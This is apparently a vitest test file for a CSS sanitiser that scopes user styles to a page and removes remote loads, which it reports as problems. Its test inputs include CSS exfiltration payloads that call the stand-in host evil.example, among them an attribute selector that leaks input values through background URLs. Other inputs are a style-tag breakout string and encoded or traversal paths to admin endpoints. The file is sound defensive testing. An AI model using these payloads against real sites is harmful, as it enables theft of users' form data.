import { expect, it } from 'vitest';
import { cleanCss } from './clean-css.ts';

it('keeps rules, scopes them to the page and re-serialises them', () => {
  expect(cleanCss('.a{color:red}@media(min-width:10px){.b:hover{gap:1px}}')).toEqual({
    css: '@scope(#page){.a{color:red}@media (min-width:10px){.b:hover{gap:1px}}}',
    problems: [],
  });
  expect(cleanCss('.a{background:url(/media/x.png)}').problems).toEqual([]);
  expect(cleanCss(".a::after{content:'https://x'}").problems).toEqual([]);
});

it.each([
  ['@import "https://evil.example/x.css";'],
  ['@font-face{font-family:x;src:url(https://evil.example/f)}'],
  ['.a{background:url(https://evil.example/?leak)}'],
  ['.a{background:url(//evil.example/)}'],
  ['.a{background:image-set("https://evil.example/x" 1x)}'],
  ['input[value^="a"]{background:URL( "https://evil.example/a" )}'],
  ['.a{--x:1;background:u\\72l(https://evil.example/)}'],
  ['.a{behavior:url(/x.htc)}'],
  ['@charset "x";@namespace url(https://evil.example);'],
  ['.a{background:url("/\\\\evil.example/x")}'],
  [".a::after{content:image-set('https://evil.example/x' 1x)}"],
  [".a{--x:'https://evil.example/x';background:image-set(var(--x) 1x)}"],
  [".a{--x:'//evil.example/x'}"],
  ['.a{--x:url(https://evil.example/)}'],
  [".a{--x:src('//evil.example/')}"],
  ['.a{background:url(data:image/png;base64,AA\\evil)}'],
])('removes %s and reports it', (text) => {
  const { css, problems } = cleanCss(text);
  expect(css).not.toMatch(/evil|behavior/);
  expect(problems.length).toBeGreaterThan(0);
});

it.each([
  '.a{color:red',
  '.a{color:red}}.b{color:blue}',
  '</style><script>x</script>',
  '.a{}/*',
  '"',
  '@media{',
  '.a{color:;gap:1px}',
  '',
])('serialises balanced CSS for %j', (text) => {
  const { css } = cleanCss(text);
  expect([...css].filter((char) => char === '{').length).toBe([...css].filter((char) => char === '}').length);
  expect(css).not.toContain('<');
});

it.each([
  '/admin',
  '/admin/api/orders',
  '/playground/api/pages',
  '/PLAYGROUND/api',
  '/outbox/1',
  '/a/../admin/x.png',
  '/%61dmin/api',
  '/./admin',
  ' /admin',
])('removes the staff address %s', (path) => {
  for (const text of [
    `.a{background:url("${path}")}`,
    `.a{--x:url("${path}")}`,
    `.a{background:image-set("${path}" 1x)}`,
  ]) {
    const { css, problems } = cleanCss(text);
    expect([text, css]).toEqual([text, expect.not.stringMatching(/admin|outbox|playground|61dmin/i)]);
    expect(problems).toMatchObject([{ problem: expect.stringContaining('is not a URL that CSS may load') }]);
  }
});

it.each([
  ['#a00', '#a00'],
  ['#AABBCCDD', '#AABBCCDD'],
  ['rgb(1 2 3 / 50%)', 'rgb(1 2 3/50%)'],
  ['calc(1px + 2rem)', 'calc(1px + 2rem)'],
  ['1', '1'],
  ["'word'", '"word"'],
  ['var(--other, #fff)', 'var(--other,#fff)'],
  ['Georgia, serif', 'Georgia,serif'],
  ['url(/media/x.png)', 'url(/media/x.png)'],
])('keeps custom properties: %s', (value, kept) => {
  expect(cleanCss(`.a{--x:${value};color:var(--x)}`)).toEqual({
    css: `@scope(#page){.a{--x:${kept};color:var(--x)}}`,
    problems: [],
  });
});

it('replaces the root of the document with that of the page', () => {
  expect(cleanCss(':root{--gap:#123456}:ROOT .a{gap:1px}.b:not(:root){gap:2px}')).toEqual({
    css: '@scope(#page){:scope{--gap:#123456}:scope .a{gap:1px}.b:not(:scope){gap:2px}}',
    problems: [],
  });
});

it('reports unparsable parts of a custom property, and keeps the others', () => {
  const { css, problems } = cleanCss('.a{--x:{a:b};gap:1px}');
  expect(css).toContain('gap:1px');
  expect([...css].filter((char) => char === '{').length).toBe([...css].filter((char) => char === '}').length);
  expect(problems.length + Number(css.includes('--x:'))).toBeGreaterThan(0);
});
